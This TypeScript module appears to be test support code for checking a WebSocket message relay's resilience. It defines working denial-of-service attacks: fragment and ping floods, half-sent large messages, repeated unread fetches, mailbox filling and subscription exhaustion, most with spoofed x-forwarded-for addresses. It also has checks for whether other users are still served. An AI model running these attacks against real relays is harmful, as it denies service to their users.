import type { Duplex } from 'node:stream'
import { sleep } from '@foyer/kit'
import { connect, createIdentity, type RawClient, randomHex } from './rawClient.ts'
import { clientFrame, openRawSocket } from './rawSocket.ts'

/** Where an attack is made, from which address, and for how long. */
export interface AttackOn {
  readonly url: string
  readonly ip: string
  readonly durationMs: number
  /** The part of what all share that the relay has, and that is taken. @default 1 */
  readonly part?: number
}

/** One way to harm a relay. Resolves when its time is over. */
export type Attack = (on: AttackOn) => Promise<void>

const SOCKETS = 10
const TEXT = 1
const CONTINUATION = 0
const PING = 9
const LARGE_CHARS = 400_000
const CHUNK_BYTES = 1_048_576

const repeat = (frame: Buffer) =>
  Buffer.concat(Array.from({ length: Math.floor(CHUNK_BYTES / frame.length) }, () => frame))

/** Writes as much as the socket takes, until it is cut off or the time is over; a new socket takes the place of one that is. */
async function keepWriting(
  { url, ip, durationMs }: AttackOn,
  { first = Buffer.alloc(0), chunk, isReading }: { first?: Buffer; chunk: Buffer; isReading: boolean },
): Promise<void> {
  const endMs = Date.now() + durationMs
  while (Date.now() < endMs) {
    const socket = await openRawSocket(url, { ip }).catch(() => undefined)
    if (socket === undefined) {
      await sleep(100)
      continue
    }
    if (isReading) socket.resume()
    socket.write(first)
    while (Date.now() < endMs && !socket.destroyed) {
      if (!socket.write(chunk)) await drained(socket, endMs - Date.now())
    }
    socket.destroy()
  }
}

function drained(socket: Duplex, limitMs: number): Promise<void> {
  return new Promise((resolve) => {
    const timer = setTimeout(done, Math.max(0, limitMs))
    function done(): void {
      clearTimeout(timer)
      socket.off('drain', done)
      socket.off('close', done)
      resolve()
    }
    socket.once('drain', done)
    socket.once('close', done)
  })
}

const onManySockets =
  (run: (on: AttackOn) => Promise<void>): Attack =>
  async (on) => {
    await Promise.all(Array.from({ length: SOCKETS }, () => run(on)))
  }

/** Messages in fragments of one byte that never end. */
const sendFragments = onManySockets((on) =>
  keepWriting(on, {
    first: clientFrame({ opcode: TEXT, payload: Buffer.from('x'), isLast: false }),
    chunk: repeat(clientFrame({ opcode: CONTINUATION, payload: Buffer.from('x'), isLast: false })),
    isReading: true,
  }),
)

/** Pings whose answers are not read. */
const sendPings = onManySockets((on) =>
  keepWriting(on, {
    chunk: repeat(clientFrame({ opcode: PING, payload: Buffer.alloc(0) })),
    isReading: false,
  }),
)

/** Pings as large as they may be, whose answers are not read. */
const sendLargePings = onManySockets((on) =>
  keepWriting(on, {
    chunk: repeat(clientFrame({ opcode: PING, payload: Buffer.alloc(125, 'x') })),
    isReading: false,
  }),
)

/** Requests that are wrong, whose answers are not read. */
const sendNonsense = onManySockets((on) =>
  keepWriting(on, {
    chunk: repeat(clientFrame({ opcode: TEXT, payload: Buffer.from('{}') })),
    isReading: false,
  }),
)

/** Sockets that each begin a large message, and leave it. */
const beginMessages: Attack = async ({ url, ip, durationMs }) => {
  const beginning = clientFrame({ opcode: TEXT, payload: Buffer.alloc(500_000, 'x') }).subarray(0, 499_000)
  const sockets = await Promise.all(
    Array.from({ length: 300 }, () => openRawSocket(url, { ip }).catch(() => undefined)),
  )
  for (const socket of sockets) socket?.write(beginning)
  await sleep(durationMs)
  for (const socket of sockets) socket?.destroy()
}

/** Large messages that wait, fetched again and again without reading the answers. */
const fetchUnread: Attack = async ({ url, ip, durationMs }) => {
  const topic = randomHex()
  const headers = { 'x-forwarded-for': ip }
  const writer = await connect(url, { headers })
  for (let count = 0; count < 8; count += 1) {
    const message = `${count}`.repeat(LARGE_CHARS)
    await writer.call('irn_publish', { topic, message, ttl: 300, tag: 1 }).catch(() => undefined)
  }
  const fetchFrame = clientFrame({
    opcode: TEXT,
    payload: Buffer.from(
      JSON.stringify({ id: '1', jsonrpc: '2.0', method: 'irn_fetchMessages', params: { topic } }),
    ),
  })
  const chunk = Buffer.concat(Array.from({ length: 64 }, () => fetchFrame))
  const on = { url, ip, durationMs }
  await Promise.all(Array.from({ length: SOCKETS }, () => keepWriting(on, { chunk, isReading: false })))
  writer.socket.terminate()
}

/** Every attack on the memory of a relay, by name. */
export const MEMORY_ATTACKS = {
  sendFragments,
  sendPings,
  sendLargePings,
  sendNonsense,
  beginMessages,
  fetchUnread,
} as const satisfies Record<string, Attack>

const FILLING_CLIENTS = 10
/** Kept for a week, as far as the relay lets them. */
const WEEK_SECONDS = 604_800

/** Publishes as many large messages as one address can, for as long as they are kept. */
const fillMailbox: Attack = async ({ url, ip, durationMs }) => {
  const endMs = Date.now() + durationMs
  const headers = { 'x-forwarded-for': ip }
  const fill = async () => {
    const client = await connect(url, { headers })
    for (let count = 0; Date.now() < endMs; count += 1) {
      const message = `${count}`.padStart(8, '0').repeat(LARGE_CHARS / 8)
      const params = { topic: randomHex(), message, ttl: WEEK_SECONDS, tag: 1 }
      await client.call('irn_publish', params).catch(() => undefined)
      if (client.socket.readyState !== client.socket.OPEN) return
    }
    client.socket.terminate()
  }
  await Promise.all(Array.from({ length: FILLING_CLIENTS }, fill))
}

const SUBSCRIBING_SOCKETS = 220
const BATCHES = 4
const BATCH = 500

/** Sockets of one address with as many topics as each may have, held until the time is over. */
const takeSubscriptions: Attack = async ({ url, ip, durationMs, part = 1 }) => {
  const endMs = Date.now() + durationMs
  const headers = { 'x-forwarded-for': ip }
  const clients: RawClient[] = []
  for (let count = 0; count < SUBSCRIBING_SOCKETS * part && Date.now() < endMs; count += 1) {
    const client = await connect(url, { headers }).catch(() => undefined)
    if (client === undefined) break
    clients.push(client)
    for (let batch = 0; batch < BATCHES; batch += 1) {
      await client.call('irn_batchSubscribe', { topics: Array.from({ length: BATCH }, randomHex) })
    }
  }
  await sleep(Math.max(0, endMs - Date.now()))
  for (const client of clients) client.socket.terminate()
}

/** Every attack by which one address takes what all share, by name. */
export const SHARE_ATTACKS = { fillMailbox, takeSubscriptions } as const satisfies Record<string, Attack>

/** Publishes a message that waits. What it returns tells whether its reader gets it. */
export async function leaveMessage(url: string, ip: string): Promise<() => Promise<boolean>> {
  const headers = { 'x-forwarded-for': ip }
  const topic = randomHex()
  const writer = await connect(url, { headers })
  await writer.call('irn_publish', { topic, message: 'YQ==', ttl: 300, tag: 1 })
  await writer.close()
  return async () => {
    const reader = await connect(url, { headers })
    await reader.call('irn_subscribe', { topic })
    const isThere = await reader.pushed(1).then(
      () => true,
      () => false,
    )
    reader.socket.terminate()
    return isThere
  }
}

/** Whether somebody else can connect, publish and read meanwhile. */
export async function isServed(url: string, ip: string): Promise<boolean> {
  const headers = { 'x-forwarded-for': ip }
  try {
    const topic = randomHex()
    const [writer, reader] = await Promise.all([
      connect(url, { headers }),
      connect(url, { headers, identity: createIdentity() }),
    ])
    const subscribed = await reader.call('irn_subscribe', { topic })
    const published = await writer.call('irn_publish', { topic, message: 'YQ==', ttl: 300, tag: 1 })
    await reader.pushed(1)
    await Promise.all([writer.close(), reader.close()])
    return subscribed.error === undefined && published.result === true
  } catch {
    return false
  }
}
